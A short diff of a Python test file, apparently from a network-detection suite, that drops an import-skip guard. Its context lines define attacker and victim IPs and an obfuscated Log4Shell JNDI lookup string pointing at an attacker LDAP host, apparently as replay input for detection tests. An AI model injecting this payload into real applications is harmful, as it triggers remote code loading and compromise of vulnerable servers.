@@ -15,8 +15,6 @@ import pytest
 from tests.detect import wire
 from tests.detect.replay import replay
 
-pytest.importorskip("kubectl_netmon.capture.engine")
-
 ATTACKER, VICTIM = "10.231.0.1", "10.231.0.2"
 LOOKUP = "${${lower:j}${::-n}di:ldap://10.231.0.1:1389/Exploit}"
 
